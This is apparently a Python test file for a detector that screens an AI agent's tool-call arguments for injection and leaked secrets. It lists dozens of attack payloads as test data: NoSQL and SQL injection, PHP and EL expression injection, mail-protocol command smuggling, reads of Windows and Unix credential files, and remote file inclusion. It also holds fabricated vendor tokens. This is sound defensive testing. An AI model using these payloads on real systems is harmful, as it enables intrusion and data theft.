"""
Session 14: the classes the (now unsealed) second held-out part showed the
rules missing, at medium, in values (arguments that carry data): NoSQL
operator and server-side JavaScript injection, a quote closed before OR
and another literal, SQL fragments no value holds, PHP/EL expressions and
shell functions, mail-protocol commands after a line break, Windows
system files through their variables, drive-relative Windows paths, and
remote inclusion through a file-naming query parameter; and the false
positive it showed (a shell array's quoted option read as a comment).

Each attack below passed the rules before this session; each benign value
of the same shape passes still.  The payloads are written here, not copied
from any corpus.
"""

from __future__ import annotations

import json
from urllib.parse import quote

from hypothesis import given, settings, strategies as st
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.inspect.checks.validators import commentTruncation, quoteBreakout
from tests.inspect.test_checks import call, mediumSteps, result, rules, verdict

SQL = "sql_injection"
CMD = "command_injection"
PATH = "path_traversal"
EXFIL = "data_exfiltration"

# (check, form, tool, argument, payload)
ATTACKS = [
    (SQL, "a Mongo operator as a JSON member", "get_user", "username", '{"$ne": null}'),
    (SQL, "a Mongo operator in a form field's name", "lookup_order", "order_id", "x&password[$gt]="),
    (SQL, "an operator every document meets, after a closed quote", "get_user", "username", "admin', pw: {$gt: ''}"),
    (SQL, "$where with JavaScript", "search_products", "query", "7, $where: 'this.a == this.a'"),
    (SQL, "the Mongo shell writing", "list_items", "sort", "db.users.insert({admin: true});"),
    (SQL, "a quote closed before a stalling loop", "get_user", "username", "x';var d=new Date();do{}while(new Date()-d<9000);'"),
    (SQL, "a quote closed before return true", "get_user", "username", "x'; return true; var y='"),
    (SQL, "OR and another quoted literal", "get_user", "username", "z' or '' '"),
    (SQL, "OR and an empty literal", "filter_records", "category", '" or "" "'),
    (SQL, "a wildcard LIKE", "lookup_order", "order_id", "like '%%'"),
    (SQL, "a number minus a truth value", "lookup_order", "order_id", "7-false"),
    (SQL, "dynamic SQL from a variable", "filter_records", "category", "0x53454c454354 exec(@cmd)"),
    (SQL, "an MSSQL system procedure", "get_user", "username", "1 exec sp_who"),
    (SQL, "a boolean joined to a delay", "lookup_order", "order_id", ")) or benchmark(__N__)='"),
    (SQL, "a dropped object, the rest commented out", "lookup_order", "order_id", "DROP accounts;#"),
    (SQL, "PostgreSQL COPY of a server file", "filter_records", "category", "copy t(c) from '/etc/hosts';"),
    (SQL, "the session's identity", "get_user", "username", "select system_user;"),
    (SQL, "a select list with arithmetic", "get_customer", "email", "SELECT 2/0, 1 FROM users"),
    (SQL, "keywords split by a replaced byte", "get_customer", "email", "4\ufffdUNION\ufffdSELECT\ufffd7--"),
    (SQL, "a condition of two numbers in CASE", "list_items", "sort", "x (CASE WHEN (12=34) THEN 1 ELSE 2 END)"),
    (SQL, "IIF of two numbers", "get_user", "username", "x')) ;IIF(5=6,1,1/0)"),
    (SQL, "ELT of two numbers", "list_items", "sort", "]-(ELT(77=78,1))|[x"),
    (SQL, "a derived table's alias before WHERE n=n", "get_user", "username", ") AS t WHERE 41=42 ,NULL"),
    (SQL, "a series of millions", "get_user", "username", "a, ;SELECT COUNT(*) FROM GENERATE_SERIES(1,9000000)--"),
    (SQL, "a repetition of billions", "lookup_order", "order_id", "`=`x` OR 7=REGEXP_SUBSTRING(REPEAT(LEFT(CHAR(65),0),900000000),NULL) AND `x`=`x"),
    (SQL, "a quote closed before a subquery", "get_customer", "email", "b' (select top 1"),
    (CMD, "PHP's complex syntax", "dns_lookup", "domain", "{${usleep(9)}}"),
    (CMD, "a PHP call in ${}", "ping_host", "host", "${@var_dump(1)}"),
    (CMD, "an EL expression", "backup", "name", "${T(java.lang.Thread).sleep(9000)}"),
    (CMD, "SMTP AUTH after a line break", "convert_file", "filename", "x\r\nAUTH PLAIN dXNlcgB1c2VyAHB3"),
    (CMD, "POP3 TOP after a line break", "dns_lookup", "domain", "x\r\nTOP 3 0"),
    (CMD, "type of a Windows hive through %WINDIR%", "convert_file", "filename", "type %WINDIR%\\repair\\SAM"),
    (CMD, "a form-encoded pipe into dir", "convert_file", "filename", "q+|+dir+d:\\"),
    (CMD, "a form-encoded line break before a command", "backup", "name", "%0a+net+user"),
    (PATH, "rsh's trust file in a home", "open_file", "path", "/home/ops/.rhosts"),
    (PATH, "X's cookie file", "open_file", "path", "/.Xauthority"),
    (PATH, "rsh's trust file in the user's home", "open_file", "path", "~/.rhosts"),
    (PATH, "BSD's password database", "read_file", "path", "/master.passwd"),
    (PATH, "cron's log", "get_document", "name", "/var/cron/log"),
    (PATH, "the old spool tree", "get_document", "name", "/usr/spool/lp/log"),
    (PATH, "IIS's metabase", "render_template", "template", "e:\\System32\\Inetsrv\\metabase.xml"),
    (PATH, "a drive after a slash", "get_document", "name", "/E:\\Program Files\\"),
    (PATH, "a drive-relative Windows path", "view_file", "file", "d:winnt/system32/"),
    (PATH, "an include parameter holding a URL", "open_file", "path", "http://site.test/view.php?template=https://other.test/x.txt"),
    (PATH, "an include parameter holding an encoded URL", "get_document", "name", "/main.php?inc=ftp%3a%2f%2fother.test/a.txt"),
    (PATH, "an include parameter holding a twice-encoded URL", "read_file", "path", "/view.php?page=http:%252f%252fother.test%252fx.txt"),
]

# values of the same shapes that are no injection
BENIGN = [
    ("get_user", "username", "$20 or less"),
    ("get_user", "username", "O'Brien or 'Bob'"),
    ("get_user", "username", "rock 'n' roll"),
    ("search_products", "query", "price: $5, shipping $2"),
    ("search_products", "query", "like new"),
    ("lookup_order", "order_id", "12-4"),
    ("lookup_order", "order_id", "AB-1234"),
    ("set_label", "tag", "{ fast }"),
    ("set_label", "tag", "${VERSION}"),
    ("set_label", "tag", "copy editing"),
    ("set_label", "tag", "drop shipping"),
    ("set_label", "tag", "exec summary"),
    ("set_label", "tag", "select all"),
    ("open_file", "path", "https://example.com/docs?page=2"),
    ("open_file", "path", "https://example.com/viewer?file=report.pdf"),
    ("get_user", "username", "mailto: top 10"),
    ("view_file", "file", "c:/projects/app/main.c"),
    ("open_file", "path", "/home/ops/.bashrc.d/passwd-helper.sh"),
    ("list_items", "sort", "case_number"),
    ("get_user", "username", "series of 10"),
    # (the review's: links, filters, template values, notes)
    ("fetch", "url", "https://example.com/pdf.js/web/viewer.html?file=https://example.com/x.pdf"),
    ("fetch", "url", "https://app.example.com/login?redirect_path=https://app.example.com/home"),
    ("fetch", "url", "https://esm.example.com/?module=https://esm.sh/react"),
    ("fetch", "url", "https://cms.example.com/api/articles?filters[title][$eq]=hello"),
    ("mongo_count", "query", '{"status": {"$in": ["A", "B"]}, "price": {"$gt": 10}}'),
    ("set_label", "value", "Total: ${formatPrice(total)}"),
    ("set_label", "value", "${t('greeting')}"),
    ("set_alias", "alias_body", "gst() { git status; };"),
    ("save_note", "note_text", "Agenda:\nTop 3 5 items\n"),
    ("save_note", "note_text", "Notes:\nAUTH PLAIN is used by SMTP\n"),
    ("set_label", "name", "copy report.csv to '/tmp/out.csv'"),
    ("convert_file", "filename", "C++|Java"),
    ("search_products", "query", "salt+pepper"),
    ("set_label", "tag", "rock+roll|blues"),
    ("open_file", "path", '/shop/search?submit=&q="DIV"&view=grid'),
]


class UnsealedFormTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.steps = mediumSteps()

    def test_attacks(self) -> None:
        """
        Each form is found by its class's check at medium.
        """
        for check, name, tool, argument, payload in ATTACKS:
            found = rules(verdict(self.steps, call(tool, **{argument: payload})))
            self.assertTrue(any(r.startswith(check + ".") for r in found), f"{name}: {payload!r} -> {found}")

    def test_benign(self) -> None:
        """
        The values of the same shapes pass, without any exclusion.
        """
        for tool, argument, text in BENIGN:
            found = rules(verdict(self.steps, call(tool, **{argument: text})))
            self.assertEqual(found, set(), f"{tool}.{argument}: {text!r}")

    def test_codeArguments(self) -> None:
        """
        The value rules stay in values: a Mongo tool's filter, a template's
        source and a shell script may hold operators, ${...} and functions.
        """
        for tool, argument, text in (
            ("mongo_find", "filter", '{"age": {"$gt": 30}, "$or": [{"a": 1}]}'),
            ("render", "template_source", "Hello ${user.name()}!"),
            ("run_command", "command", "f(){ echo hi; }; f"),
        ):
            found = rules(verdict(self.steps, call(tool, **{argument: text})))
            self.assertEqual(found, set(), f"{tool}.{argument}: {text!r}")

    def test_quotedOption(self) -> None:
        """
        A shell array's quoted option is no quote closed before a comment;
        a quote left open before one still is.
        """
        for text in ("FLAGS=('--porcelain')", "opts=(\"--list:List all\")"):
            found = rules(verdict(self.steps, call("run_command", command=text)))
            self.assertNotIn(SQL + ".comment_truncation", found, text)
        self.assertIn(SQL + ".comment_truncation", rules(verdict(self.steps, call("get_user", username="admin'--"))))
        self.assertFalse(commentTruncation("x=('--opt')"))
        self.assertTrue(commentTruncation("admin'--"))
        self.assertTrue(commentTruncation("admin' -- '"))

    def test_quotedWord(self) -> None:
        """
        A word a query string quotes whole is no quote closed before an
        operator; a quote closed before one (with or without blanks) still
        is.
        """
        self.assertFalse(quoteBreakout('/find?q="MOD"&page=2'))
        self.assertFalse(quoteBreakout("/find?q='DIV'"))
        self.assertTrue(quoteBreakout("x'or'1'='1"))
        self.assertTrue(quoteBreakout("x' or 1=1"))


# vendor credentials by their documented shapes (values made up here)
SECRETS = [
    # 52 characters, the service's JQQJ99 and 18 more, AZDO, 4
    ("azure_devops_token", "pat: " + "Qw3rTy7uIoP9aSdF4gHjK2lZxC5vBnM8qWeRtY6uIoPaSdFgHjKL" + "JQQJ99BFACAAAAAMnbVcXz7Q" + "AZDO" + "q7Wd"),
    ("tavily_key", "TAVILY=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"),
    ("newrelic_key", "license_key: eu01xx3f9c1a7e0b5d2f8c4e6a1b9d0c7e3fNRAL"),
    ("thingsboard_token", "POST https://thingsboard.cloud/api/v1/k3v9x2m7q4w8z1p6r5t0/telemetry"),
    ("webhook_url", "https://outlook.office.com/webhook/3f2a9c1e-7b4d-4e8a-9c0f-1d2e3f4a5b6c@8e7d6c5b-4a39-4281-b7c6-d5e4f3a2b1c0"
     "/IncomingWebhook/9f8e7d6c5b4a39281f7e6d5c4b3a2918/0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"),
    ("vault_unseal_key", "Unseal Key 3: Xq8vK2mP9wL4nR7tY1uB6cD3fG5hJ0kZ2aS4dF6gH8j="),
    ("vault_unseal_key", "vault operator unseal Lm3Nb7Vc2Xz9Qw4Er6Ty8Ui1Op5As0Df3Gh7Jk2LzXc="),
    ("sonar_token", "mvn sonar:sonar -Dsonar.login=9f2c4e6a8b0d1f3e5a7c9b1d3f5e7a9c2b4d6f8e"),
    ("telegram_bot_token", "bot = Bot('7312948561:AAGh4Kd9Lm2Np7Qr3St8Uv1Wx6Yz0Ab5Cd')"),
]


class VendorTests(SynchronousTestCase):
    """
    Vendor credentials the (now unsealed) third held-out part showed the
    rules missing, found by their own rule in what a tool sends and in a
    tool's result.
    """

    def setUp(self) -> None:
        self.steps = mediumSteps()

    def test_found(self) -> None:
        for name, text in SECRETS:
            for message in (call("create_gist", content=text), result(text)):
                self.assertIn(f"{EXFIL}.{name}", rules(verdict(self.steps, message)), text)

    def test_notFound(self) -> None:
        """
        Placeholders in the same shapes, and words about the same things,
        pass.
        """
        for text in (
            "TAVILY_API_KEY = tvly-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "Unseal Key 1: <paste the key here>",
            "run vault operator unseal three times",
            "sonar.login=${SONAR_TOKEN}",
            "see thingsboard.cloud/api/v1/$ACCESS_TOKEN/telemetry",
        ):
            self.assertEqual(rules(verdict(self.steps, call("create_gist", content=text))), set(), text)


class FieldListTests(SynchronousTestCase):
    """
    A phone number in a list of fields (a contact line: name, number,
    country) is a number after a word's comma, not a row of numbers.
    """

    def setUp(self) -> None:
        self.steps = mediumSteps()

    def test_afterName(self) -> None:
        for text in ("Ana Ruiz, 912 34 56 78, ES", "Luca Bianchi, 312 345 6789, IT"):
            self.assertIn(EXFIL + ".phone", rules(verdict(self.steps, call("send_email", body=text))), text)

    def test_rowOfNumbers(self) -> None:
        for text in ("totals: 1.5, 912 34 56 78, 3", "ids 7, 912 34 56 78 and 9"):
            self.assertNotIn(EXFIL + ".phone", rules(verdict(self.steps, call("send_email", body=text))), text)


class EncodedOnceMoreTests(SynchronousTestCase):
    """
    Encoding a detected payload one more way (percent-encoding, as a form
    or a URL would carry it) keeps it detected.
    """

    def setUp(self) -> None:
        self.steps = mediumSteps()

    @settings(max_examples=40, deadline=None)
    @given(
        st.sampled_from([("ne", "null"), ("ne", '""'), ("ne", "1"), ("nin", "[]"), ("gt", '""'), ("gt", "null"), ("gte", '""'), ("regex", '".*"')]),
        st.booleans(),
        st.booleans(),
    )
    def test_operator(self, pair: tuple[str, str], spaced: bool, encoded: bool) -> None:
        """
        An operator whose operand every document meets, in any JSON spacing,
        percent-encoded or not.
        """
        op, value = pair
        payload = json.dumps({"$" + op: json.loads(value)}, separators=(", ", ": ") if spaced else (",", ":"))
        if encoded:
            payload = quote(payload, safe="")
        found = rules(verdict(self.steps, call("get_user", username=payload)))
        self.assertTrue(any(r.startswith(SQL + ".") for r in found), f"{payload!r} -> {found}")

    @settings(max_examples=30, deadline=None)
    @given(st.sampled_from(["system", "passthru", "exec", "shell_exec", "sleep"]), st.integers(1, 60), st.booleans())
    def test_phpExpression(self, fn: str, n: int, encoded: bool) -> None:
        payload = "{${%s(%d)}}" % (fn, n)
        if encoded:
            payload = quote(payload, safe="")
        found = rules(verdict(self.steps, call("dns_lookup", domain=payload)))
        self.assertTrue(any(r.startswith(CMD + ".") for r in found), f"{payload!r} -> {found}")
